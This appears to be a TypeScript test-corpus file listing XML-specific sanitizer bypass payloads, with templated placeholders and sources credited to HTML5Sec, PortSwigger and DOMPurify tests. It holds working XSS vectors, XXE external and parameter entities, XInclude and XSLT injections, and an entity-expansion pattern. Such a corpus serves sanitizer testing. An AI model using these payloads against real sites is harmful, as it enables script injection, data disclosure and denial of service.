import { category } from './payload';
import { DOMPURIFY_TESTS, HTML5SEC, own, PORTSWIGGER } from './sources';

const XHTML = 'http://www.w3.org/1999/xhtml';

/** What only the parser of XML takes: prefixes, entities, CDATA, instructions. All of it is well formed but for the prologues. */
export const XML = category('xml', [
  [
    HTML5SEC,
    {
      'prefixed-script': `<x:script xmlns:x="${XHTML}">{{CALL}}</x:script>`,
      'prefixed-image': `<x:img xmlns:x="${XHTML}" src="x:" onerror="{{CALL}}"/>`,
      'prefixed-iframe': `<x:iframe xmlns:x="${XHTML}" srcdoc="&lt;script&gt;{{CALL}}&lt;/script&gt;"/>`,
      'cdata-script': '<script><![CDATA[{{CALL}}]]></script>',
      'cdata-text': '<p><![CDATA[<img src="x:" onerror="{{CALL}}">]]></p>',
      'cdata-splits': '<p><![CDATA[<im]]><![CDATA[g src=x: onerror={{CALL}}>]]></p>',
      'style-instruction': '<?xml-stylesheet type="text/xsl" href="{{URL}}"?><p>a</p>',
      'internal-entity':
        '<!DOCTYPE p [<!ENTITY x "&#60;img src=&#34;x:&#34; onerror=&#34;{{CALL}}&#34;/&#62;">]><p>&x;</p>',
      'external-entity': '<!DOCTYPE p [<!ENTITY x SYSTEM "{{URL}}">]><p>&x;</p>',
      'parameter-entity': '<!DOCTYPE p [<!ENTITY % x SYSTEM "{{URL}}">%x;]><p>a</p>',
      'entity-growth':
        '<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]><p>&c;</p>',
      'attribute-default': `<!DOCTYPE p [<!ATTLIST p onclick CDATA "{{CALL}}">]><p>a</p>`,
      xinclude: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{{URL}}"/>',
      'xml-events':
        '<p xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="javascript:{{CALL}}">a</p>',
    },
  ],
  [
    PORTSWIGGER,
    {
      'svg-namespace': '<g xmlns="http://www.w3.org/2000/svg" onload="{{CALL}}"/>',
      'svg-root': '<svg xmlns="http://www.w3.org/2000/svg" onload="{{CALL}}"><script>{{CALL}}</script></svg>',
      'svg-foreign': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="${XHTML}" onload="{{CALL}}"><img src="x:" onerror="{{CALL}}"/></body></foreignObject></svg>`,
      'svg-handler-namespace':
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x:" onerror="{{CALL}}"/></svg>',
      xslt: '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><script>{{CALL}}</script></xsl:template></xsl:stylesheet>',
      'self-closed-script': '<script src="{{URL}}"/>',
      'self-closed-style': '<style/><img src="x:" onerror="{{CALL}}"/>',
      'self-closed-iframe': '<iframe srcdoc="&lt;script>{{CALL}}&lt;/script>"/>',
    },
  ],
  [
    own(DOMPURIFY_TESTS),
    {
      'title-holds-elements': '<title><img src="x:" onerror="{{CALL}}"/></title>',
      'textarea-holds-elements': '<textarea><img src="x:" onerror="{{CALL}}"/></textarea>',
      'style-holds-elements': '<style><img src="x:" onerror="{{CALL}}"/></style>',
      'noscript-holds-elements': '<noscript><img src="x:" onerror="{{CALL}}"/></noscript>',
      'xmp-holds-elements': '<xmp><img src="x:" onerror="{{CALL}}"/></xmp>',
      'wrong-case': '<IMG SRC="x:" ONERROR="{{CALL}}"/><ScRiPt>{{CALL}}</ScRiPt>',
      'no-namespace': '<img xmlns="" src="x:" onerror="{{CALL}}"/><p xmlns="x:y">a</p>',
      'xml-base': '<a xml:base="javascript:{{CALL}}//" href="x">a</a>',
      'xml-id-space': '<p xml:id="x" xml:space="preserve" xml:lang="en&quot; onclick=&quot;{{CALL}}">a</p>',
      'xlink-simple':
        '<p xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="javascript:{{CALL}}" xlink:actuate="onLoad">a</p>',
      'comment-in-xml': '<!-- <p title="--><img src="x:" onerror="{{CALL}}"/><!-- "> -->',
      'instruction-text': '<?x ><img src=x: onerror={{CALL}}> ?><p>a</p>',
      'attribute-greater': '<p title="</p><img src=x: onerror={{CALL}}>">a</p>'.replace(
        '</p><',
        '&lt;/p>&lt;',
      ),
      'table-anywhere': '<tr><td><img src="x:" onerror="{{CALL}}"/></td></tr>',
      'nested-link': '<a href="#x"><a href="javascript:{{CALL}}">a</a></a>',
      'nested-form':
        '<form><form><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><mglyph><style>&lt;/math&gt;&lt;img src=x: onerror={{CALL}}&gt;</style></mglyph></mtext></math></form></form>',
      'p-in-p': '<p><p><style>&lt;/style&gt;&lt;img src=x: onerror={{CALL}}&gt;</style></p></p>',
      'script-text-less': '<script type="x">&lt;/script&gt;&lt;img src=x: onerror={{CALL}}&gt;</script>',
      'iframe-text': '<iframe>&lt;/iframe&gt;&lt;img src=x: onerror={{CALL}}&gt;</iframe>',
      'pre-first-newline': '<pre>&#10;&#10;&lt;/pre&gt;&lt;img src=x: onerror={{CALL}}&gt;</pre>',
    },
  ],
]);
